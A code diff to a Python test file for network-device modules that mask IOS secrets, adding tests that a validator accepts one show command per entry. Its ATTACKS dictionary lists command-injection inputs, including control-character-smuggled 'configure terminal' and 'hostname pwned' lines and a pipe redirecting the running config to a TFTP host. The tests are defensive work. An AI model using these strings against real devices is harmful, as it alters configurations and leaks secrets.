@@ -1,4 +1,4 @@
-"""Network devices (#23): masked secrets.
+"""Network devices (#23): masked secrets, one show command per entry.
 
 The netdev modules mask every secret an IOS configuration or show output can
 carry, in any case and spacing, in their commands, diffs and messages.
@@ -9,7 +9,7 @@ from __future__ import annotations
 import pytest
 
 from module_utils import voip_netdev
-from module_utils.voip_netdev import mask
+from module_utils.voip_netdev import mask, refused_show_commands, show_command_problem
 
 # -- the mask ----------------------------------------------------------------------------
 
@@ -127,3 +127,68 @@ def test_lines_without_a_secret_keep_what_names_them(line):
 def test_several_lines_are_masked_line_by_line():
     text = "enable secret 9 $9$a\r\nhostname gw1\nsnmp-server community pub RO\n"
     assert mask(text) == "enable secret 9 ********\r\nhostname gw1\nsnmp-server community ********\n"
+
+
+# -- one show command per entry ------------------------------------------------------------
+
+ATTACKS = {
+    "LF": "show version\nconfigure terminal\nhostname pwned\nend",
+    "CR": "show version\rconfigure terminal\rhostname pwned\rend",
+    "CRLF": "show version\r\nconfigure terminal\r\nhostname pwned\r\nend",
+    "Ctrl-Z": "show version\x1aconfigure terminal\x1ahostname pwned\x1a",
+    "Ctrl-U": "show version\x15configure terminal",
+    "backspace": "show version" + "\x08" * 12 + "configure terminal",
+    "DEL": "show version" + "\x7f" * 12 + "configure terminal",
+    "NUL": "show version\x00configure terminal",
+    "ESC": "show version\x1b[Aconfigure terminal",
+    "Ctrl-C": "show version\x03configure terminal",
+    "tab": "show ver\tconfigure",
+    "NEL U+0085": "show version\x85configure terminal",
+    "LINE SEPARATOR U+2028": "show version\u2028configure terminal",
+    "PARAGRAPH SEPARATOR U+2029": "show version\u2029configure terminal",
+    "vertical tab": "show version\x0bconfigure terminal",
+    "form feed": "show version\x0cconfigure terminal",
+    "non-ASCII": "show versión",
+    "semicolon": "show version ; configure terminal",
+    "help": "show ?",
+    "redirect": "show running-config | redirect tftp://192.0.2.66/gw1.cfg",
+    "tee": "show running-config | tee flash:copy.cfg",
+    "append": "show running-config | append flash:copy.cfg",
+    "greater-than": "show running-config > flash:copy.cfg",
+    "empty pipe": "show running-config |",
+    "not show": "configure terminal",
+    "abbreviated": "sh run",
+    "bare show": "show",
+    "leading spaces then not show": "  write memory",
+}
+
+
+@pytest.mark.parametrize("name", sorted(ATTACKS))
+def test_more_than_one_show_command_in_an_entry_is_refused(name):
+    assert show_command_problem(ATTACKS[name]) is not None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "show version",
+        "show isdn status",
+        "show voice port summary",
+        "  show dial-peer voice summary  ",
+        "show running-config | section dial-peer",
+        "show running-config | include hostname",
+        "show running-config | i hostname",
+        "show running-config | exclude ^!",
+        "show running-config | begin voice-port",
+        "show running-config | count dial-peer",
+    ],
+)
+def test_one_show_command_with_an_output_filter_is_accepted(command):
+    assert show_command_problem(command) is None
+
+
+def test_the_refusal_names_the_entry_and_shows_its_control_characters():
+    refused = refused_show_commands(["show version", ATTACKS["LF"], "show clock"])
+    assert len(refused) == 1
+    assert refused[0].startswith("commands[1] 'show version\\nconfigure terminal")
+    assert "a line feed (U+000A)" in refused[0]
